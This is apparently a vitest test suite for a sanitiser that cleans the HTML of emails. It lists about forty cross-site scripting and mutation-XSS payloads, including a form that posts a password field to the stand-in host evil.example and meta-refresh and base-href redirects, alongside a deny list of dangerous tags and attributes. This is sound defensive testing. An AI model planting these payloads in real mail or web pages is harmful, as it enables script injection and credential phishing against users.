import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { makeSafeHtml } from './safe-html.ts'

const attachmentUrl = (contentId: string) => (contentId === 'known' ? '/attachments/1' : null)
const safe = (html: string) => makeSafeHtml(html, attachmentUrl).html

/** Every tag of the output with its attributes: the sanitiser writes well-formed, quoted ones only. */
const elementsOf = (html: string) =>
  [...html.matchAll(/<([a-z0-9]+)((?:\s[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, name, attributes = '']) => ({
      name,
      attributes: [...attributes.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => ({
        key,
        value,
      })),
    }),
  )

const expectHarmless = (html: string) => {
  const rest = html.replace(/<\/?[a-z0-9]+(?:\s[a-z-]+(?:="[^"<]*")?)*\s*\/?>/g, '')
  expect(rest).not.toMatch(/</)
  for (const { name, attributes } of elementsOf(html)) {
    expect(name).not.toMatch(
      /^(?:script|style|iframe|frame|object|embed|form|input|button|link|meta|base|svg|math|template|video|audio|source)$/,
    )
    for (const { key, value } of attributes) {
      expect(key).not.toMatch(/^on|^(?:srcset|background|formaction|action|id|class|name|srcdoc|poster)$/)
      if (key === 'href') expect(value).toMatch(/^(?:https?|mailto|tel):/i)
      if (key === 'src')
        expect(value).toMatch(/^(?:\/attachments\/|data:image\/(?:png|jpeg|gif|webp);base64,)/)
      if (key === 'style')
        expect(value).not.toMatch(/url|expression|position|z-index|-\d|@|\\|javascript|behavior|transform/i)
    }
  }
}

const attacks = [
  '<p onclick="alert(1)" onmouseover=alert(2) id=app class=modal name=cookie>x</p>',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/api/v1/session/delete">x</a>',
  '<a href="//example.com">x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
  '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-color:red;color:expression(alert(1))">x</div>',
  '<div style="margin-left:-9999px;padding:9999px">x</div>',
  '<div style="width:100%;\\70osition:fixed">x</div>',
  '<p style="font-size:900px;color:red;-moz-binding:url(x)">x</p>',
  '<img srcset="https://evil.example/a.png 1x">',
  '<table background="https://evil.example/a.png"><td background="x">x</td></table>',
  '<video poster="https://evil.example/a.png"><source src="https://evil.example/a.mp4"></video>',
  '<input type=image src="https://evil.example/a.png">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<a href="https://x.example" onclick="alert(1)" target="_top" id="app" class="modal" name="cookie">x</a>',
  '<img src="cid:unknown"><img src="cid:%E0%A4%A"><img src="cid:\u0000">',
  '<img src=`x`onerror=alert(1)><img """><script>alert(1)</script>">',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
  '<template><script>alert(1)</script></template><details open ontoggle=alert(1)>',
]

describe('the HTML of a mail', () => {
  test.each(attacks)('loses what acts in %s', (html) => {
    expectHarmless(safe(html))
    expectHarmless(safe(`<table><tr><td><b>${html}${html.toUpperCase()}`))
  })

  test('is harmless for any mixture of such pieces, and for good', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...attacks),
        fc.constantFrom('<', '"', "'", '>', '<!--', '<p ', 'style="', '</', '\0'),
        fc.string(),
      ),
    )
    fc.assert(
      fc.property(pieces, (given) => {
        const once = safe(given.join(''))
        expectHarmless(once)
      }),
    )
  })

  test('keeps its look and its words', () => {
    const html =
      '<p style="color:#f00;text-align:center"><b>Привет</b></p><ul><li>раз</li></ul><table><tr><td colspan="2">1</td></tr></table>'
    expect(safe(html)).toBe(
      '<p style="color:#f00;text-align:center"><b>Привет</b></p><ul><li>раз</li></ul><table><tr><td colspan="2">1</td></tr></table>',
    )
  })

  test('opens links elsewhere, without telling from where', () => {
    expect(safe('<a href="https://x.example/?a=1&amp;b=2">x</a>')).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('shows its own images and counts those that wait for a click', () => {
    const { html, remoteImages } = makeSafeHtml(
      '<img src="cid:known" alt="a"><img src="https://x.example/p.gif" width="1"><img src="//x.example/q.gif"><img src="data:image/png;base64,AA==">',
      attachmentUrl,
    )
    expect(remoteImages).toBe(2)
    expect(elementsOf(html).map(({ attributes }) => attributes.find(({ key }) => /src$/.test(key)))).toEqual([
      { key: 'src', value: '/attachments/1' },
      { key: 'data-remote-src', value: 'https://x.example/p.gif' },
      { key: 'data-remote-src', value: 'https://x.example/q.gif' },
      { key: 'src', value: 'data:image/png;base64,AA==' },
    ])
  })

  test.each(['<div>'.repeat(400_000), `<b>${'x<br>'.repeat(500_000)}`])(
    'of megabytes is cut and says so',
    (html) => {
      const started = performance.now()
      expect(makeSafeHtml(html, attachmentUrl).isCut).toBe(true)
      expect(performance.now() - started).toBeLessThan(10_000)
    },
  )
})
